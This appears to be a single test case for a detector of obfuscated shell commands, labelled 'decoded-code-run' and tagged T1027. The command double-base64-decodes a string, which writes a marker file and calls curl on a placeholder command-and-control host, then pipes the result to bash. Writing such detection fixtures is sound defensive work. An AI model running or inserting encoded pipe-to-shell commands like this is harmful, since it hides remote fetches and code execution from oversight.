# expect: decoded-code-run | source: T1027
echo WldOb2J5QnNiMjlySUQ0Z0wzUnRjQzlzYjI5ckxtWnBjbVZrT3lCamRYSnNJQzF6SUdoMGRIQTZMeTlqTWk1bGVHRnRjR3hsTG1sdWRtRnNhV1F2 | base64 -d | base64 -d | bash
